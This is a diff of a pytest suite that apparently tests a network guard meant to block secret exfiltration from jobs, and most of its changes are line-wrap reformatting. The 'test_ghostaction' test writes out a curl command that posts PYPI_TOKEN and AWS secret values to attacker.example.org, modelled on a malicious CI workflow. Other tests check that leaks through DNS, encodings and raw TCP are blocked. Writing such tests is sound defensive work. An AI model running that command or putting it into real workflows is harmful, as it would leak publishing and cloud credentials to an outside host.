@@ -23,7 +23,11 @@ def assert_unwritten(value: str, written: bytes) -> None:
 @pytest.mark.parametrize("host", ["attacker.example.org", "api.example.com"])
 def test_ghostaction(world: World, secret: str, user: int | None, host: str) -> None:
     """One step posts the job's secrets with curl, as the workflow that was slipped into hundreds of repositories did."""
-    attack = ["sh", "-c", f'curl -s -X POST -d "PYPI_TOKEN=$PYPI_TOKEN&AWS=$AWS_SECRET_ACCESS_KEY" https://{host}/; sleep 30']
+    attack = [
+        "sh",
+        "-c",
+        f'curl -s -X POST -d "PYPI_TOKEN=$PYPI_TOKEN&AWS=$AWS_SECRET_ACCESS_KEY" https://{host}/; sleep 30',
+    ]
     env = {"PYPI_TOKEN": secret, "AWS_SECRET_ACCESS_KEY": secret[::-1]}
     world.guard.bare([*attack[:2], attack[2].replace("; sleep 30", "")], env=env)
     assert secret.encode() in world.received(EVIL, *APIS)
@@ -102,9 +106,7 @@ def test_every_encoding_in_a_body_is_cut(world: World, secret: str) -> None:
     assert set(tried.values()) == {"200"}
     assert len(tried) > 35
     world.forget()
-    outcome = world.guard.run(
-        [*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret}
-    )
+    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
     assert outcome.code == 91, outcome.stderr
     assert {name: status for name, status in sent(outcome).items() if status == "200"} == {}
     assert sent(outcome).keys() == tried.keys()
@@ -154,9 +156,7 @@ def test_every_place_of_a_request_is_watched(world: World, secret: str) -> None:
     assert "200" in tried["path"]
     assert len(tried) == 15, bare.stderr
     world.forget()
-    outcome = world.guard.run(
-        [*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", PLACES], env={"DEPLOY_TOKEN": secret}
-    )
+    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", PLACES], env={"DEPLOY_TOKEN": secret})
     assert outcome.code == 91, outcome.stderr
     passed = {name for name, status in sent(outcome).items() if status == "200"}
     assert passed <= {"chunk extension", "method"}  # the guard writes chunks anew; a method is checked below
@@ -189,9 +189,7 @@ def test_names_carry_nothing(world: World, secret: str) -> None:
     world.guard.bare([PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
     assert any(secret.encode().hex()[:40] in name for name, _kind in world.questions)
     world.forget()
-    outcome = world.guard.run(
-        [*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret}
-    )
+    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
     assert outcome.code == 91
     assert {name for name, _kind in world.questions} <= {"api.example.com"}
     assert {one["place"] for one in outcome.incidents if one["kind"] == "exfiltration"} >= {"dns"}
@@ -263,7 +261,9 @@ def test_opaque_connections_are_read_too(world: World, secret: str) -> None:
         """
     )
     outcome = world.guard.run(
-        ["--allow", "tcp://db.example.com:5432", "--on-exfiltration", "fail"], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret}
+        ["--allow", "tcp://db.example.com:5432", "--on-exfiltration", "fail"],
+        [PYTHON, "-c", program],
+        env={"DEPLOY_TOKEN": secret},
     )
     assert outcome.code == 91, outcome.stderr
     received = world.received("203.0.113.11")
